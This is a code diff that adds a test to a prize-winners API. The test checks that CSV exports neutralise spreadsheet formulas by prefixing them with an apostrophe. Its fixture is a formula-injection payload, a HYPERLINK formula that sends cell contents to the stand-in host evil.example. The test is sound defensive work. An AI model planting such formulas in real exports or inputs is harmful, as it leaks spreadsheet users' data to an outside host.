@@ -188,6 +188,21 @@ def test_api_row_has_the_documented_schema(client, published):
     ]
 
 
+def test_the_csv_never_hands_a_spreadsheet_a_formula(client, published):
+    """Entrants write titles and outlets: in the CSV a cell that a spreadsheet would
+    evaluate starts with an apostrophe; the JSON keeps the text as written."""
+    _award, _category, prizes = published
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    Entry.objects.filter(pk=prizes[0].entry_id).update(title=formula, outlet="@once")
+    assert client.get("/api/winners.json").json()["results"][0]["title"] == formula
+    (row,) = csv.DictReader(
+        io.StringIO(client.get("/api/winners.csv").content.decode())
+    )
+    assert row["title"] == "'" + formula
+    assert row["outlet"] == "'@once"
+    assert row["country"] == "KG"
+
+
 def test_entry_page_in_a_language_without_translation_falls_back_labelled(
     client, published
 ):
